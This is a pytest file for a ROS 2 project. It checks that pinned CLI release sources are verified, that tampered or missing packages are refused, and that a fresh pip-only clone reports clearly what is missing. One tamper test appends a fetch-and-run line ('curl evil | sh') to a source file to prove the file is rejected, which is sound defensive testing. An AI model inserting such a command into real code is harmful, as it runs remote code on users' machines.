"""A newcomer's fresh clone on a pip-only machine: where the ROS 2 command line comes from, and what is said when it
cannot be had.

- The pinned release sources (requirements/ros2-cli-<distro>.txt) are checked file by file: the shared release
  tarballs match their pins; a tampered file or a missing package is refused; the download path (GitHub's archive
  layout, served here from a file:// mirror: this machine has no GitHub access) drops test/ and doc/ and checks the
  same tree hash; an unreachable server is reported as unavailable, not as an error.
- A fresh clone with nothing beside it (no ../shared/) and no way to download: `make ros2-tools` prints ONE
  `[setup]` line saying what is unavailable and how to get it (with --optional, as `make setup-test` runs it, set-up
  goes on); `tools/with_ros2_tools.sh ros2 ...` says what is missing instead of `exec: ros2: not found`; the
  CLI and launch tests skip with reasons that name `make ros2-tools`.

The clone reuses this run's venv (sys.prefix): nothing is built or installed into it, so this takes seconds.
"""
import io
import os
import shutil
import socket
import subprocess
import sys
import tarfile
from pathlib import Path

import pytest

ROOT = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(ROOT / "tools"))
import ros2_cli_sources as sources  # noqa: E402

SHARED = ROOT.parent / "shared" / "ros2-cli"
# this interpreter's distribution: the set-up's venvs are .venv (Kilted) and .venv-<distro>
DISTRO = Path(sys.prefix).name.partition("-")[2] or "kilted"
DISTROS = ["kilted", "jazzy"]
MAKE_TOOLS = "make ros2-tools"


def _closed_port_url() -> str:
    """A URL on this machine where nothing listens: a download from it fails at once (connection refused)."""
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return f"http://127.0.0.1:{s.getsockname()[1]}"


UNREACHABLE = _closed_port_url()


def pins(distro: str):
    return sources.read_pins(ROOT / "requirements" / f"ros2-cli-{distro}.txt")


def tarball(distro: str) -> Path:
    path = SHARED / f"ros2_cli_{distro}_src.tar.gz"
    if not path.is_file():
        pytest.skip(f"{path} is not here (the release tarballs beside the checkout)")
    return path


def unpacked(distro: str, dest: Path) -> Path:
    dest.mkdir()
    return sources.unpack(tarball(distro).read_bytes(), dest)


def pip_only_env(**extra: str) -> dict:
    """A shell of a pip-only machine: no ROS 2 sourced, no test-only tools on the paths, no way to download."""
    env = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": os.environ.get("HOME", "/root"), "LANG": "C.UTF-8",
           "ROS_AUTOMATIC_DISCOVERY_RANGE": "LOCALHOST", "ROS2_CLI_URL": UNREACHABLE, "VENV": sys.prefix}
    env.update(extra)
    return env


def run(cmd, cwd: Path, env: dict, timeout: int = 300) -> subprocess.CompletedProcess:
    return subprocess.run(["timeout", "-s", "KILL", str(timeout)] + [str(c) for c in cmd], cwd=str(cwd), env=env,
                          capture_output=True, text=True)


@pytest.mark.parametrize("distro", DISTROS)
def test_the_release_tarballs_match_their_pins(distro, tmp_path):
    listed = [line.split() for line in (unpacked(distro, tmp_path / "x") / "SOURCES.txt").read_text().splitlines()
              if line.strip() and not line.startswith("#")]
    assert sorted((f"github.com/ros2-gbp/{p.repo}", p.tag, p.commit) for p in pins(distro)) == \
        sorted(tuple(fields) for fields in listed)
    origin = sources.fetch(pins(distro), tmp_path / "src", tarball(distro))
    assert origin == str(tarball(distro))
    assert sorted(p.name for p in (tmp_path / "src").iterdir()) == sorted(p.package for p in pins(distro))


def test_a_tampered_file_is_refused(tmp_path):
    root = unpacked(DISTRO, tmp_path / "x")
    with open(root / "ros2cli" / "ros2cli" / "cli.py", "a") as f:
        f.write("import os; os.system('curl evil | sh')\n")
    # as a user runs it: a fresh prefix, these sources
    prefix = tmp_path / "prefix"
    r = run(["bash", ROOT / "tools" / "ros2_tools.sh", "--distro", DISTRO, "--optional", "--prefix", prefix], ROOT,
            pip_only_env(ROS2_CLI_SRC=str(root)), timeout=120)
    out = r.stdout + r.stderr
    assert r.returncode == 1, out
    assert "refused" in out and "ros2cli: its files differ from its pinned release" in out, out
    assert not prefix.exists(), "nothing is installed from refused sources"


def test_a_missing_package_is_refused(tmp_path):
    root = unpacked(DISTRO, tmp_path / "x")
    shutil.rmtree(root / "launch_ros")
    with pytest.raises(sources.Refused, match="holds no launch_ros/"):
        sources.fetch(pins(DISTRO), tmp_path / "src", root, DISTRO)
    assert list((tmp_path / "src").iterdir()) == [], "a refused fetch leaves nothing behind"


def _mirror(root: Path, mirror: Path, distro: str) -> None:
    """GitHub's archive layout for each pin: <repo>/archive/<commit>.tar.gz holding <repo>-<commit>/ with the
    package as its release tag has it, test/ and doc/ included."""
    for pin in pins(distro):
        data = io.BytesIO()
        with tarfile.open(fileobj=data, mode="w:gz") as tar:
            top = f"{pin.repo}-{pin.commit}"
            tar.add(root / pin.package, arcname=top)
            for extra in ("test/test_copyright.py", "doc/index.rst"):
                content = b"# not installed\n"
                info = tarfile.TarInfo(f"{top}/{extra}")
                info.size = len(content)
                tar.addfile(info, io.BytesIO(content))
        archive = mirror / pin.repo / "archive" / f"{pin.commit}.tar.gz"
        archive.parent.mkdir(parents=True, exist_ok=True)
        archive.write_bytes(data.getvalue())


def test_the_download_drops_test_and_doc_and_checks_each_pin(tmp_path):
    root = unpacked(DISTRO, tmp_path / "x")
    mirror = tmp_path / "mirror"
    _mirror(root, mirror, DISTRO)
    dest = tmp_path / "src"
    sources.fetch(pins(DISTRO), dest, base_url=mirror.as_uri())
    assert not list(dest.glob("*/test")) and not list(dest.glob("*/doc"))
    cli = Path("ros2cli", "ros2cli", "cli.py")
    assert (dest / cli).read_bytes() == (root / cli).read_bytes()

    (root / "launch" / "launch" / "__init__.py").write_text("# not the release\n")
    _mirror(root, mirror, DISTRO)
    with pytest.raises(sources.Refused, match="launch: its files differ"):
        sources.fetch(pins(DISTRO), dest, base_url=mirror.as_uri())
    assert list(dest.iterdir()) == [], "a refused fetch leaves nothing behind"


def test_an_unreachable_server_is_unavailable_not_an_error(tmp_path):
    with pytest.raises(sources.Unavailable, match="the download of http://127.0.0.1:.*ros2cli-release/archive/"):
        sources.fetch(pins(DISTRO), tmp_path / "src", base_url=UNREACHABLE)


@pytest.fixture(scope="module")
def clone(tmp_path_factory) -> Path:
    """A clone of this checkout (its files as they are now, committed or not) with nothing beside it."""
    here = tmp_path_factory.mktemp("fresh")
    path = here / "ros2_chatterbox"
    r = run(["git", "clone", "--quiet", "--no-hardlinks", ROOT, path], here, dict(os.environ), timeout=120)
    assert r.returncode == 0, r.stderr
    listed = subprocess.run(["git", "ls-files", "-z", "--cached", "--others", "--exclude-standard"], cwd=ROOT,
                            capture_output=True, check=True, timeout=60).stdout.decode().split("\0")
    for rel in filter(None, listed):
        src, dst = ROOT / rel, path / rel
        if src.is_file():
            dst.parent.mkdir(parents=True, exist_ok=True)
            shutil.copy2(src, dst)
        elif dst.is_file():
            dst.unlink()
    assert not (here / "shared").exists()
    return path


def _setup_lines(out: str):
    return [line for line in out.splitlines() if line.startswith("[setup]")]


def test_make_ros2_tools_says_what_is_missing_in_one_line(clone):
    # -o setup: the venv is this run's own, set up already (nothing of it is rebuilt from the clone)
    r = run(["make", "-o", "setup", "ros2-tools", f"VENV={sys.prefix}", f"ROS_DISTRO={DISTRO}"], clone,
            pip_only_env(), timeout=120)
    out = r.stdout + r.stderr
    assert r.returncode != 0, f"make ros2-tools cannot succeed without sources:\n{out}"
    (line,) = _setup_lines(out)
    assert line.startswith("[setup] the ros2 command line and launch are not installed"), line
    for what in ("no ROS 2 installation", "no ROS2_CLI_SRC", "no ../shared/ros2-cli/", "download",
                 "test/test_ros2_cli.py", f"`{MAKE_TOOLS}", "ROS2_CLI_SRC=<folder or .tar.gz>"):
        assert what in line, f"{what!r} missing from: {line}"
    assert not list((clone / "build").glob("ros2-tools-*")), "nothing is left half-built"


def test_set_up_goes_on_without_the_command_line(clone):
    # the call `make setup-test` makes (tools/setup_venv.sh --test)
    r = run(["bash", "tools/ros2_tools.sh", "--distro", DISTRO, "--optional"], clone, pip_only_env(), timeout=120)
    out = r.stdout + r.stderr
    assert r.returncode == 0, out
    (line,) = _setup_lines(out)
    assert "not installed" in line and MAKE_TOOLS in line, line


def test_the_wrapper_names_the_command_that_gets_ros2(clone):
    r = run(["tools/with_ros2_tools.sh", "ros2", "lifecycle", "get", "/tts_node"], clone, pip_only_env(), timeout=60)
    assert r.returncode == 127
    assert "exec: ros2: not found" not in r.stderr
    assert "the ROS 2 command line is not installed here" in r.stderr and f"`{MAKE_TOOLS}`" in r.stderr, r.stderr


def test_the_cli_and_launch_tests_skip_naming_make_ros2_tools(clone):
    env = pip_only_env(PYTHONPATH=str(clone))
    r = run([sys.executable, "-m", "pytest", "-rs", "-q", "-p", "no:cacheprovider", "test/test_ros2_cli.py",
             "test/test_launch.py"], clone, env, timeout=300)
    out = r.stdout + r.stderr
    assert r.returncode == 0, out[-3000:]
    skipped = [line for line in out.splitlines() if line.startswith("SKIPPED")]
    assert skipped, out[-3000:]
    assert " passed" not in out and " failed" not in out, out[-3000:]
    unexplained = [line for line in skipped if MAKE_TOOLS not in line]
    assert not unexplained, "skip reasons that do not name `make ros2-tools`:\n" + "\n".join(unexplained)
